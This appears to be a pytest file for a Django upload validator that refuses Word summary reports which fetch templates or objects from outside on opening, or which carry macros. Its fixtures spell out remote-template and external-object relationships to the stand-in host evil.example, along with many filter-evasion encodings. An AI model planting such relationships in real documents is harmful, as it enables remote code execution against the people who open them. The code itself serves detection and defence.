"""The summary report's docx check reads the relationship parts as XML (core/uploads.py): a relationship that
makes Word fetch a template or an object from elsewhere on opening is refused however it is written (a namespace
prefix, a character reference, the part name in another case, a second entry of the same name), while an
ordinary report, with its pictures, hyperlinks to news sites and embedded objects, is accepted."""

import io
import warnings
import zipfile

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile

from chengxin.core.errors import DomainError
from chengxin.core.uploads import check_document

MB = 1024 * 1024
PACKAGE_NS = "http://schemas.openxmlformats.org/package/2006/relationships"
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
FETCHES = "从外部获取模板或对象"
MACROS = "含有宏"
DAMAGED = "文件内容不是 docx、pdf 或 wps 文档"
REMOTE_TEMPLATE = (
    f'<Relationship Id="rId1" Type="{OFFICE}/attachedTemplate" Target="https://evil.example/t.dotm" '
    'TargetMode="External"/>'
)

CONTENT_TYPES = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\r\n'
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="png" ContentType="image/png"/>'
    '<Default Extension="bin" ContentType="application/vnd.openxmlformats-officedocument.oleObject"/>'
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Default Extension="xml" ContentType="application/xml"/>'
    '<Override PartName="/word/document.xml" '
    'ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/>'
    '<Override PartName="/word/settings.xml" '
    'ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.settings+xml"/>'
    '<Override PartName="/word/styles.xml" '
    'ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.styles+xml"/>'
    '<Override PartName="/word/footer1.xml" '
    'ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.footer+xml"/>'
    '<Override PartName="/docProps/core.xml" ContentType="application/vnd.openxmlformats-package.core-properties+xml"/>'
    "</Types>"
)


def _rels(*relationships: str) -> str:
    return (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\r\n'
        f'<Relationships xmlns="{PACKAGE_NS}">{"".join(relationships)}</Relationships>'
    )


def _word_document() -> dict[str, str | bytes]:
    """A report as Word writes it: styles, settings, a footer, a picture, an embedded Excel table (an internal
    oleObject), a picture linked to its web source, and hyperlinks to the news coverage of the activities."""
    return {
        "[Content_Types].xml": CONTENT_TYPES,
        "_rels/.rels": _rels(
            f'<Relationship Id="rId2" Type="{PACKAGE_NS.replace("relationships", "relationships/metadata")}'
            '/core-properties" Target="docProps/core.xml"/>',
            f'<Relationship Id="rId1" Type="{OFFICE}/officeDocument" Target="word/document.xml"/>',
        ),
        "docProps/core.xml": '<?xml version="1.0"?><cp:coreProperties xmlns:cp="http://schemas.openxmlformats.org/'
        'package/2006/metadata/core-properties"/>',
        "word/document.xml": f'<?xml version="1.0"?><w:document xmlns:w="{W}"><w:body><w:p><w:r>'
        "<w:t>2020年诚信兴商宣传月活动总结</w:t></w:r></w:p></w:body></w:document>",
        "word/_rels/document.xml.rels": _rels(
            f'<Relationship Id="rId1" Type="{OFFICE}/styles" Target="styles.xml"/>',
            f'<Relationship Id="rId2" Type="{OFFICE}/settings" Target="settings.xml"/>',
            f'<Relationship Id="rId3" Type="{OFFICE}/footer" Target="footer1.xml"/>',
            f'<Relationship Id="rId4" Type="{OFFICE}/image" Target="media/image1.png"/>',
            f'<Relationship Id="rId5" Type="{OFFICE}/oleObject" Target="embeddings/oleObject1.bin"/>',
            f'<Relationship Id="rId6" Type="{OFFICE}/image" Target="https://mmbiz.qpic.cn/x/640.png" '
            'TargetMode="External"/>',
            f'<Relationship Id="rId7" Type="{OFFICE}/hyperlink" Target="http://www.mofcom.gov.cn/article/ae/" '
            'TargetMode="External"/>',
            f'<Relationship Id="rId8" Type="{OFFICE}/hyperlink" Target="https://www.creditchina.gov.cn/?a=1&amp;b=2" '
            'TargetMode="External"/>',
        ),
        "word/styles.xml": f'<?xml version="1.0"?><w:styles xmlns:w="{W}"/>',
        "word/settings.xml": f'<?xml version="1.0"?><w:settings xmlns:w="{W}"/>',
        "word/footer1.xml": f'<?xml version="1.0"?><w:ftr xmlns:w="{W}"/>',
        "word/media/image1.png": b"\x89PNG\r\n\x1a\n" + bytes(64),
        "word/embeddings/oleObject1.bin": bytes.fromhex("D0CF11E0A1B11AE1") + bytes(504),
    }


def _docx(parts: dict[str, str | bytes], extra: list[tuple[str, str | bytes]] = ()) -> bytes:
    """The parts zipped in order, then `extra` entries (which may repeat a name already written)."""
    buffer = io.BytesIO()
    with warnings.catch_warnings():
        warnings.simplefilter("ignore", UserWarning)  # zipfile warns about a duplicate name: that is the point
        with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as z:
            for name, content in [*parts.items(), *extra]:
                z.writestr(name, content)
    return buffer.getvalue()


def _refusal(content: bytes) -> str | None:
    """The refusal's message, or None when the document is accepted (as a docx)."""
    try:
        checked = check_document(SimpleUploadedFile("广东省总结报告.docx", content), max_bytes=20 * MB)
    except DomainError as exc:
        assert [e.field for e in exc.errors] == ["summary"]
        return exc.message
    assert checked.kind == "docx"
    return None


def test_an_ordinary_word_report_with_pictures_hyperlinks_and_an_embedded_table_is_accepted():
    assert _refusal(_docx(_word_document())) is None


# The black-box probe's three files, and the other ways of writing the same relationship.
HIDDEN_TEMPLATES = {
    "namespace prefix": (
        "word/_rels/settings.xml.rels",
        f'<?xml version="1.0"?><r:Relationships xmlns:r="{PACKAGE_NS}"><r:Relationship Id="rId1" '
        f'Type="{OFFICE}/attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="External"/>'
        "</r:Relationships>",
    ),
    "prefix on the element only": (
        "word/_rels/settings.xml.rels",
        f'<?xml version="1.0"?><Relationships xmlns="{PACKAGE_NS}"><r:Relationship xmlns:r="{PACKAGE_NS}" '
        f'Id="rId1" Type="{OFFICE}/attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="External"/>'
        "</Relationships>",
    ),
    "character reference in TargetMode": (
        "word/_rels/settings.xml.rels",
        _rels(
            f'<Relationship Id="rId1" Type="{OFFICE}/attachedTemplate" Target="https://evil.example/t.dotm" '
            'TargetMode="&#69;xternal"/>'
        ),
    ),
    "character references in the Type": (
        "word/_rels/settings.xml.rels",
        _rels(
            f'<Relationship Id="rId1" Type="{OFFICE}/attached&#x54;emplate" Target="https://evil.example/t.dotm" '
            'TargetMode="Extern&#97;l"/>'
        ),
    ),
    "part name .RELS": ("word/_rels/settings.xml.RELS", _rels(REMOTE_TEMPLATE)),
    "part name in capitals": ("WORD/_RELS/SETTINGS.XML.RELS", _rels(REMOTE_TEMPLATE)),
    "part name percent-escaped": ("word/_rels/settings.xml.%72els", _rels(REMOTE_TEMPLATE)),
    "UTF-16 part": ("word/_rels/settings.xml.rels", _rels(REMOTE_TEMPLATE).replace("UTF-8", "UTF-16")),
    "network path without TargetMode": (
        "word/_rels/settings.xml.rels",
        _rels(f'<Relationship Id="rId1" Type="{OFFICE}/attachedTemplate" Target="\\\\evil.example\\s\\t.dotm"/>'),
    ),
    "linked object in the body": (
        "word/_rels/document.xml.rels",
        _rels(
            f'<Relationship Id="rId9" Type="{OFFICE}/oleObject" Target="https://evil.example/a.hta" '
            'TargetMode="External"/>'
        ),
    ),
    "frame of a web-layout document": (
        "word/_rels/webSettings.xml.rels",
        _rels(
            f'<Relationship Id="rId1" Type="{OFFICE}/frame" Target="file://evil.example/f.docx" TargetMode="External"/>'
        ),
    ),
    "sub-document": (
        "word/_rels/document.xml.rels",
        _rels(
            f'<Relationship Id="rId1" Type="{OFFICE}/subDocument" Target="https://evil.example/s.docx" '
            'TargetMode="External"/>'
        ),
    ),
    "imported chunk": (
        "word/_rels/document.xml.rels",
        _rels(
            f'<Relationship Id="rId1" Type="{OFFICE}/aFChunk" Target="https://evil.example/c.mht" '
            'TargetMode="External"/>'
        ),
    ),
    "mail-merge data source": (
        "word/_rels/settings.xml.rels",
        _rels(
            f'<Relationship Id="rId1" Type="{OFFICE}/mailMergeSource" Target="file:///\\\\evil.example\\d.odc" '
            'TargetMode="External"/>'
        ),
    ),
    "strict namespace": (
        "word/_rels/settings.xml.rels",
        '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        '<Relationship Id="rId1" Type="http://purl.oclc.org/ooxml/officeDocument/relationships/attachedTemplate" '
        'Target="https://evil.example/t.dotm" TargetMode="External"/></Relationships>',
    ),
}


@pytest.mark.parametrize(("part", "rels"), HIDDEN_TEMPLATES.values(), ids=HIDDEN_TEMPLATES)
def test_a_relationship_fetching_from_elsewhere_is_refused_however_it_is_written(part, rels):
    encoding = "utf-16" if "UTF-16" in rels else "utf-8"
    message = _refusal(_docx(_word_document(), [(part, rels.encode(encoding))]))
    assert message is not None and FETCHES in message
    assert message.endswith("为安全起见不予接收：请另存为 pdf 后再上传")


def test_the_refusal_names_the_kind_of_relationship():
    message = _refusal(_docx(_word_document(), [("word/_rels/settings.xml.rels", _rels(REMOTE_TEMPLATE))]))
    assert (
        message == "文件会在打开时从外部获取模板或对象（attachedTemplate），为安全起见不予接收：请另存为 pdf 后再上传"
    )


def test_a_second_entry_of_the_same_name_does_not_hide_the_first():
    """Two zip entries named alike: whichever one Word reads, neither may fetch anything."""
    harmless = _rels(f'<Relationship Id="rId1" Type="{OFFICE}/styles" Target="styles.xml"/>')
    parts = _word_document()
    first = _docx(
        {**parts, "word/_rels/settings.xml.rels": _rels(REMOTE_TEMPLATE)}, [("word/_rels/settings.xml.rels", harmless)]
    )
    assert FETCHES in (_refusal(first) or "")
    second = _docx(
        {**parts, "word/_rels/settings.xml.rels": harmless}, [("word/_rels/settings.xml.rels", _rels(REMOTE_TEMPLATE))]
    )
    assert FETCHES in (_refusal(second) or "")


@pytest.mark.parametrize(
    "extra",
    [
        # The content type said with a character reference.
        (
            "[Content_Types].xml",
            CONTENT_TYPES.replace(
                "wordprocessingml.document.main+xml", "wordprocessingml.document.macro&#69;nabled.main+xml"
            ),
        ),
        # A VBA project under another name, found by its relationship.
        (
            "word/_rels/document.xml.rels",
            _rels(
                '<Relationship Id="rId1" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" '
                'Target="x.bin"/>'
            ),
        ),
        ("word/VBAPROJECT.BIN", b"x"),
    ],
    ids=["macro content type, character reference", "vba project relationship", "vba part in capitals"],
)
def test_macros_are_refused_however_they_are_named(extra):
    name, content = extra
    parts = {**_word_document(), name: content}
    assert MACROS in (_refusal(_docx(parts)) or "")


@pytest.mark.parametrize(
    "rels",
    [
        b"not xml at all",
        b'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY e "External">]><Relationships/>',
        b"<Relationships><Relationship",
    ],
    ids=["not xml", "dtd", "cut short"],
)
def test_a_relationship_part_that_is_not_plain_xml_is_refused_as_damaged(rels):
    parts = {**_word_document(), "word/_rels/settings.xml.rels": rels}
    assert DAMAGED in (_refusal(_docx(parts)) or "")


@pytest.mark.parametrize(
    "relationship",
    [
        f'<Relationship Id="rId1" Type="{OFFICE}/hyperlink" Target="https://evil.example/" TargetMode="External"/>',
        f'<Relationship Id="rId1" Type="{OFFICE}/hyperlink" Target="mailto:office@example.gov.cn" '
        'TargetMode="External"/>',
        f'<Relationship Id="rId1" Type="{OFFICE}/hyperlink" Target="#_Toc1"/>',
        f'<Relationship Id="rId1" Type="{OFFICE}/image" Target="https://mmbiz.qpic.cn/x/0.jpeg" '
        'TargetMode="External"/>',
        f'<Relationship Id="rId1" Type="{OFFICE}/oleObject" Target="../embeddings/Microsoft_Excel.xlsx"/>',
        f'<Relationship Id="rId1" Type="{OFFICE}/attachedTemplate" Target="../templates/report.dotx"/>',
    ],
    ids=["hyperlink", "mailto", "bookmark", "linked picture", "embedded object", "template inside the file"],
)
def test_what_opens_only_when_clicked_or_stays_inside_the_file_is_accepted(relationship):
    parts = {**_word_document(), "word/_rels/settings.xml.rels": _rels(relationship)}
    assert _refusal(_docx(parts)) is None
